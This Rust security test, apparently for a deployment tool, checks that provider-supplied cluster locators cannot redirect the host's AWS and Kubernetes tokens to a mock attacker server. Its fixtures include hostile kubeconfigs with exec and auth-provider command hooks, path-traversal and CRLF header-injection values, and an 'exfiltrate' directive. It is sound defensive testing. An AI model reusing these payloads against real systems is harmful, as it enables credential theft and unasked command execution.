//! A provider says which cluster is meant, never where it is: the host's tokens cannot be pointed at a server of its own.

use anyhow::{Result, ensure};
use nic_tests::things::Attacker;
use serde_json::{Value, json};

use super::site::Site;

const SECRET: &str = "PLANTED-aws-secret";
const TOKEN: &str = "PLANTED-kube-token";
const FILE: &str = "PLANTED-token-file";

/// A kubeconfig whose cluster is the attacker's, and whose login the attacker wishes the host to make.
fn evil_kubeconfig(address: &str, user: &Value) -> Value {
    json!({
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [{ "name": "evil", "cluster": { "server": format!("http://{address}") } }],
        "contexts": [{ "name": "evil", "context": { "cluster": "evil", "user": "evil" } }],
        "current-context": "evil",
        "users": [{ "name": "evil", "user": user }],
    })
}

/// Places for a cluster that lead, or could be thought to lead, to the attacker.
fn locators(attacker: &str, granted: &str) -> Vec<Value> {
    let eks = |region: &str, name: &str| json!({ "kind": "eks", "parameters": { "region": region, "name": name } });
    let request = |url: String| {
        let request =
            json!({ "method": "GET", "url": url, "scheme": "none", "service_id": "scripted", "credential": "default" });
        json!({ "kind": "kubeconfig-from", "parameters": { "request": request } })
    };
    let url = format!("http://{attacker}");
    let mut all = vec![
        // What the host would have to be told to go wrong: all of it is the provider's to say, and none of it is listened to.
        json!({ "kind": "eks", "parameters": {
            "region": "us-west-2", "name": "mine", "endpoint": url, "server": url, "endpoint_url": url,
            "certificate_authority": { "data": "" }, "sts_endpoint": url,
        }}),
        json!({ "kind": "kubeconfig", "parameters": {
            "context": "mine", "server": url, "cluster": { "server": url }, "path": "evil.json", "kubeconfig": "evil.json",
            "proxy-url": url,
        }}),
        json!({ "kind": "kubeconfig", "parameters": { "context": "evil" } }),
        json!({ "kind": "kubeconfig", "parameters": { "context": "../evil.json" } }),
        json!({ "kind": "crystal-ball", "parameters": { "server": url } }),
        request(format!("{url}/kubeconfig")),
    ];
    all.extend(["exec", "token-file", "auth-provider"].map(|login| request(format!("{granted}/facts/{login}"))));
    for region in [
        attacker,
        "us-west-2@evil",
        &format!("us-west-2.{attacker}/"),
        &format!("x/@{attacker}/?"),
        "us-west-2.evil.example",
    ] {
        all.push(eks(region, "mine"));
    }
    for name in ["../../v2/evil", "mine?x=y#", &format!("@{attacker}/"), "mine\r\nauthorization: evil", ""] {
        all.push(eks("us-west-2", name));
    }
    all
}

#[tokio::test(flavor = "multi_thread")]
async fn no_locator_leads_the_hosts_tokens_to_the_provider() -> Result<()> {
    let attacker =
        Attacker::start("200 OK", |address| evil_kubeconfig(address, &json!({ "tokenFile": "token" })).to_string())
            .await?;
    // The user's own cluster, and the user's own AWS: tokens go there and nowhere else.
    let own = Attacker::start("503 Service Unavailable", |_| "{}".to_owned()).await?;
    let aws = Attacker::start("404 Not Found", |_| r#"{"message": "No cluster found"}"#.to_owned()).await?;

    let mut site = Site::new("cluster")?;
    let path = |name: &str| site.workspace.path().join(name).display().to_string();
    let (kubeconfig, marker, token_file) = (path("kubeconfig"), path("executed"), path("token"));
    let mine = json!({
        "apiVersion": "v1", "kind": "Config", "current-context": "mine",
        "clusters": [{ "name": "mine", "cluster": { "server": format!("http://{}", own.address()) } }],
        "contexts": [{ "name": "mine", "context": { "cluster": "mine", "user": "me" } }],
        "users": [{ "name": "me", "user": { "token": TOKEN } }],
    });
    site.workspace.write("kubeconfig", &mine.to_string())?;
    site.workspace
        .write("evil.json", &evil_kubeconfig(attacker.address(), &json!({ "tokenFile": token_file })).to_string())?;
    site.workspace.write("token", FILE)?;
    site.workspace
        .env("KUBECONFIG", kubeconfig)
        .env("AWS_ACCESS_KEY_ID", "AKIAPLANTED")
        .env("AWS_SECRET_ACCESS_KEY", SECRET)
        .env("AWS_REGION", "us-west-2")
        .env("AWS_ENDPOINT_URL", format!("http://{}", aws.address()));
    let exec = json!({ "exec": {
        "apiVersion": "client.authentication.k8s.io/v1", "command": "touch", "args": [marker], "interactiveMode": "Never",
    }});
    for (login, user) in [
        ("exec", exec),
        ("token-file", json!({ "tokenFile": token_file })),
        (
            "auth-provider",
            json!({ "auth-provider": { "name": "gcp", "config": { "cmd-path": "touch", "cmd-args": marker } } }),
        ),
    ] {
        site.things.fact(login, evil_kubeconfig(attacker.address(), &user))?;
    }

    let object =
        json!({ "apiVersion": "v1", "kind": "ConfigMap", "metadata": { "name": "one", "namespace": "default" } });
    for locator in locators(attacker.address(), &site.things.endpoint()) {
        let section = json!({
            "region": "us-west-2", "resources": [{ "name": "one" }], "objects": { "one": object }, "cluster": locator,
        });
        site.config(section)?;
        for command in [&["plan"][..], &["deploy"], &["status"], &["kubeconfig"]] {
            let ran = site.nic(command).await?;
            for planted in [SECRET, TOKEN, FILE, "k8s-aws-v1."] {
                let said = if command == ["kubeconfig"] { ran.stderr.clone() } else { ran.said() };
                ensure!(!said.contains(planted), "{locator}: `nic {command:?}` says {planted}");
            }
        }
    }
    // The host's own falsified by the behaviour that the component has for it.
    site.config(json!({
        "resources": [{ "name": "one" }], "objects": { "one": object },
        "in": { "cluster": { "do": "exfiltrate", "what": "locator", "to": attacker.url() } },
    }))?;
    site.refused(&["plan"], 2, "RESOURCE_UNREADABLE").await?;

    ensure!(!site.workspace.path().join("executed").exists(), "a program was run for the provider");
    let seen = attacker.seen();
    for planted in ["uthorization", "k8s-aws-v1.", "AKIAPLANTED", SECRET, TOKEN, FILE, "X-Amz-"] {
        ensure!(!seen.contains(planted), "{planted} reached the provider's server:\n{seen}");
    }
    // The looks above are worth something: the user's own servers were reached, with the user's own logins.
    ensure!(own.seen().contains(&format!("Bearer {TOKEN}")), "the user's own cluster was not asked: {}", own.seen());
    ensure!(aws.seen().contains("AKIAPLANTED/") && aws.seen().contains("/clusters/mine"), "{}", aws.seen());
    ensure!(!aws.seen().contains(SECRET) && !aws.seen().contains(TOKEN), "{}", aws.seen());
    Ok(())
}
